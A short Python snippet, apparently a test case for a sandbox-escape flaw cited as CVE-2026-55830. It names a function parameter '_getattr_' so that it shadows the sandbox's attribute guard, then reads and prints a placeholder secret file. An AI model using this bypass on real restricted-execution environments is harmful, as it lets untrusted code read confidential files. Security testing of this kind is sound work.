"""A parameter called like the guard (CVE-2026-55830): every attribute is then what it says."""
import io
def read(_getattr_, /):
    return io.FileIO("@SECRET_FILE@").readall()
print(read(lambda owner, name: owner))
